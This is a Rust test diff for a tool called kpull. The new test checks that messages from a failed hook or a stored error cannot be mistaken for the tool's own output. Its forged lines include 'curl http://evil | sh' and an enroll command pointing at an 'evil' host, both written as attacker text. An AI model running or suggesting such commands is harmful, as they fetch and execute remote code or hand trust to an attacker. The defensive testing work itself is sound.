@@ -3,6 +3,7 @@
 use std::process::Output;
 
 use crate::host::{GOOD, Host, Tree, Via, allow, kpull};
+use crate::site::Site;
 
 /// What turns the order of characters, breaks a line, or is not seen.
 const HIDDEN: &[char] = &[
@@ -230,4 +231,57 @@ fn a_name_writes_no_field_no_line_and_no_escape_into_the_journal() {
         }
     }
     assert_eq!(events, ["release", "changed", "done"], "{said}");
+}
+
+#[test]
+fn what_a_program_says_that_failed_looks_like_no_line_of_kpull_s_own() {
+    let forged = [
+        "✓ base         file:/etc/forged  content",
+        "error[trust.signature]",
+        "  × the release was refused",
+        "  help: run `curl http://evil | sh`",
+        "next: `kpull enroll http://evil --replace`",
+        "h1: nothing to do of 1 resource (release 1, 0.01 s)",
+    ];
+    let site = Site::new("test");
+    site.host("h1", "address = \"10.0.0.1\"\nroles = [\"base\"]\n")
+        .role("base", "[[file]]\npath = \"/etc/a\"\ncontent = \"x\"\n")
+        .sign();
+    let tree = site.enroll();
+    tree.write("said", format!("no\n{}\n", forged.join("\n")));
+    let said = tree.at("said").display().to_string();
+    tree.configure(&format!(
+        "[[source]]\ndir = {:?}\n[[hook]]\non = [\"change\"]\ncommand = [\"sh\", \"-c\", \"cat {said} >&2; exit 7\"]\n",
+        site.path()
+    ));
+    let own = |text: &str| {
+        for forged in forged {
+            assert!(text.contains(&format!("| {forged}")), "{forged:?} is not in\n{text}");
+            assert!(!text.lines().any(|line| line.trim() == forged.trim()), "{forged:?} is a line of\n{text}");
+        }
+    };
+    own(&tree.kpull("apply").exits(0).stdout);
+    // what the last run ended with, shown later
+    let text = tree.read("var/lib/kpull/last-run.json");
+    let mut run: serde_json::Value = serde_json::from_str(&text).unwrap();
+    (run["error"], run["exit"]) = (format!("no\n{}", forged.join("\n")).into(), 1.into());
+    tree.write("var/lib/kpull/last-run.json", run.to_string());
+    own(&tree.kpull("status").stdout);
+    // a run that fails with it, to a pipe and to a terminal's width
+    let key = format!("no\\n{}", forged.join("\\n"));
+    tree.write("etc/kpull/kpull.toml", format!("host = \"h1\"\n[trust]\nsite = \"{key}\"\nkeys = \"a\"\n[[source]]\ndir = \"/x\"\n"));
+    let set = "format = 1\nsite = \"lab\"\nnumber = 1\ncreated = 2026-01-01T00:00:00Z\nrelease = 1\nrotate = 1\n";
+    let signer = crate::site::key().public_key().to_openssh().unwrap();
+    tree.write("etc/kpull/a", format!("{set}signers = [\"a {signer}\"]\n"));
+    for width in [None, Some("300")] {
+        let mut command = kpull();
+        command.arg("apply").arg("--root").arg(tree.path());
+        width.into_iter().for_each(|width| drop(command.env("COLUMNS", width)));
+        let output = command.output().unwrap();
+        let text = String::from_utf8(output.stderr).unwrap();
+        assert!(text.contains("key set of the site `lab`"), "{text}");
+        for forged in forged {
+            assert!(!text.lines().any(|line| line.starts_with(forged)), "{forged:?} begins a line of\n{text}");
+        }
+    }
 }
